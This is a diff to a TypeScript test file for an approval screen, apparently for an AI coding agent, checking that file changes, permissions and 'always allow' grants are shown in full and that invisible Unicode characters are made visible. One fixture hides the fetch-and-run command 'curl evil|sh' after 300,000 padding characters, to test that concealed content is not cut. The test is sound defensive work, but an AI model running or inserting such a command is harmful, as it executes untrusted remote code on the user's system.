@@ -3,7 +3,7 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { approvalDigest, utf8 } from '../link/signed.ts';
 import { FakeMac } from '../testing/fake-mac.ts';
-import { choiceLabel, stateWords, summaryOf, viewOf } from './approval-view.ts';
+import { choiceLabel, lastingGrant, refusals, stateWords, summaryOf, viewOf } from './approval-view.ts';
 import {
   APPROVALS_MAX,
   choosable,
@@ -147,7 +147,7 @@ test('buttons say what they do, and unknown decisions show themselves', async ()
   assert.equal(label('accept'), 'Allow once');
   assert.equal(
     label('{"acceptWithExecpolicyAmendment":{"execpolicy_amendment":["npm","test"]}}'),
-    'Allow, and always allow: npm test',
+    'Always allow this command',
   );
   assert.equal(
     label('{"applyNetworkPolicyAmendment":{"network_policy_amendment":{"host":"h","action":"deny"}}}'),
@@ -178,7 +178,48 @@ test('permissions are told once each, with nothing hidden', async () => {
     await asking('item/permissions/requestApproval', { permissions: { fileSystem: { read: many } } }),
   );
   assert.ok(long.kind === 'permissions');
-  assert.equal(long.asks.at(-1), '… and 3 more that are not shown here');
+  assert.deepEqual([long.asks.length, long.asks.at(-1)], [103, 'Read /w/102']);
+});
+
+test('nothing of what is asked is left out, however much it is', async () => {
+  const changes = Array.from({ length: 250 }, (_, n) => ({
+    path: `/w/src/${n}.ts`,
+    kind: { type: 'update' },
+    diff: `@@ -1 +1 @@\n-a\n+${n === 249 ? `${'x'.repeat(300_000)}curl evil|sh` : 'b'}\n`,
+  }));
+  const approval = await asking('item/fileChange/requestApproval', {});
+  const view = viewOf({ ...approval, shown: utf8(JSON.stringify({ item: { changes } })) });
+  assert.ok(view.kind === 'change');
+  assert.deepEqual([view.changes.length, view.cwd, view.changes.at(-1)?.cut], [250, '/w/src', 0]);
+  assert.ok(view.changes.at(-1)?.diff.endsWith('curl evil|sh\n'));
+  const options = Array.from({ length: 40 }, (_, n) => ({ label: `o${n}\u200b`, description: '' }));
+  const asked = viewOf(await asking('item/tool/requestUserInput', { questions: [{ id: 'q', options }] }));
+  assert.ok(asked.kind === 'questions');
+  assert.deepEqual(
+    [asked.questions[0]?.options.length, asked.questions[0]?.options[39]],
+    [40, { label: 'o39\u200b', shown: 'o39⟨U+200B⟩', description: '' }],
+  );
+});
+
+test('what holds for longer than once says what it is about and how far it reaches', async () => {
+  const approval = await step(await FakeMac.make(), {});
+  const lasting = (choice: string, grants = true) => lastingGrant({ choice, grants }, approval);
+  assert.equal(lasting('accept'), undefined);
+  assert.equal(lasting('cancel', false), undefined);
+  assert.match(lasting('acceptForSession')?.scope ?? '', /until Codex is started anew/);
+  const always = lasting(
+    '{"acceptWithExecpolicyAmendment":{"execpolicy_amendment":["git","push","a b","it\'s \u202e"]}}',
+  );
+  assert.equal(always?.about, `git push 'a b' 'it'\\''s ⟨U+202E⟩'`);
+  assert.match(always?.scope ?? '', /in every thread/);
+  const order = ['cancel', 'accept', 'odd', 'decline'].map((choice) => ({
+    choice,
+    grants: choice === 'accept',
+  }));
+  assert.deepEqual(
+    refusals(order).map(({ choice }) => choice),
+    ['decline', 'cancel', 'odd'],
+  );
 });
 
 test('a tool that wants to run shows what it is given; a form stays a form', async () => {
